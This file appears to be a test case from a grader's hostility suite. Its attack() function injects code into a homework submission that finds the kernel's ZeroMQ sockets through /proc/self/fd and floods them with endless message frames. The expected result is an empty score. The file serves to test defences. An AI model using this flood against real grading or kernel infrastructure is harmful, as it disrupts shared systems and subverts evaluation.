"""See hostility.py for what a case is."""

CASE = "a message without end is written to the kernel's connections, part by part, below ZeroMQ"
EXPECTED = {
    "scores": {},
    "most": {"dropout_backward": 2.0},
    "reason": "sent more than 256 MiB that nobody could read yet",
}


def attack(homework):
    homework.wrong()
    homework.add("""
        import contextlib, select, socket, threading

        # ZMTP 3: more frames follow (1), the size has eight bytes (2).
        part = b"\\x03" + (2**20).to_bytes(8, "big") + bytes(2**20)

        def pour(connection):
            while True:
                rest = memoryview(part)
                while rest:
                    select.select([], [connection], [])
                    with contextlib.suppress(BlockingIOError):
                        rest = rest[connection.send(rest):]

        for number in os.listdir("/proc/self/fd"):
            with contextlib.suppress(OSError):
                connection = socket.socket(fileno=int(number))
                if "/k-" in str(connection.getsockname()):
                    threading.Thread(target=pour, args=(connection,), daemon=True).start()
        threading.Event().wait()
    """)
